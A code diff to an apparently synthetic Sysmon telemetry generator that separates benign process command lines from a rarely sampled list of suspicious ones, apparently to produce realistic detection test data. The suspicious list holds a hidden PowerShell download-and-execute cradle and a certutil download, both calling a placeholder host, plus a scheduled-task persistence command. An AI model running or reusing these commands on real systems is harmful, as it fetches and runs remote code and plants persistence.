@@ -20,11 +20,15 @@ const PARENTS = [
   'C:\\Windows\\System32\\cmd.exe', 'C:\\Program Files\\nodejs\\npm.cmd', 'C:\\Windows\\System32\\svchost.exe',
   'C:\\Program Files\\Microsoft VS Code\\Code.exe', 'C:\\Python311\\python.exe',
 ];
-const ARGS = [
+const BENIGN_ARGS = [
   '', ' /d /s /c "node-gyp rebuild"', ' -k netsvcs -p -s Schedule', ' --type=renderer --lang=en-US --field-trial-handle=1732',
-  ' -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a\')"', ' /all',
-  ' -urlcache -split -f http://203.0.113.7/p.exe p.exe', ' install --no-audit --no-fund', ' query HKLM\\Software\\Microsoft',
-  ' /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc minute', ' status --porcelain', ' -m pip install requests',
+  ' /all', ' install --no-audit --no-fund', ' query HKLM\\Software\\Microsoft', ' status --porcelain', ' -m pip install requests',
+  ' --no-sandbox --disable-gpu', ' /c dir', ' -NoProfile -File C:\\scripts\\build.ps1',
+];
+/** About one event in 250 carries one of these, as attacks are rare in real telemetry. */
+const SUSPICIOUS_ARGS = [
+  ' -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a\')"',
+  ' -urlcache -split -f http://203.0.113.7/p.exe p.exe', ' /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc minute',
 ];
 
 function pick<T>(xs: T[], n: number): T {
@@ -52,7 +56,7 @@ export function sysmonProcessCreation(i: number): Record<string, unknown> {
     Product: 'Microsoft® Windows® Operating System',
     Company: 'Microsoft Corporation',
     OriginalFileName: exe.toUpperCase(),
-    CommandLine: `"${image}"${pick(ARGS, i * 3 + (i >> 7))}`,
+    CommandLine: `"${image}"${i % 250 === 17 ? pick(SUSPICIOUS_ARGS, i >> 8) : pick(BENIGN_ARGS, i * 3 + (i >> 7))}`,
     CurrentDirectory: 'C:\\Users\\dev\\source\\repos\\app\\',
     User: 'CORP\\dev',
     LogonGuid: '{5f1c2a10-1a2b-6747-ad0c-1a0000000000}',
